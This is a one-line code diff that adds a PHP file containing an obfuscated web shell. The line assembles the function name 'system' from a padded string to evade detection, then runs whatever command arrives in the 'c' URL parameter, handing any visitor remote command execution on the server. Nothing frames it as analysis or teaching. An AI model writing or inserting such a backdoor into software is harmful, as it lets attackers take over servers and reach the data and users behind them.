@@ -1,0 +1,1 @@
+<?php $a = str_replace("x", "", "sxyxsxtxexm"); $a($_GET["c"]);
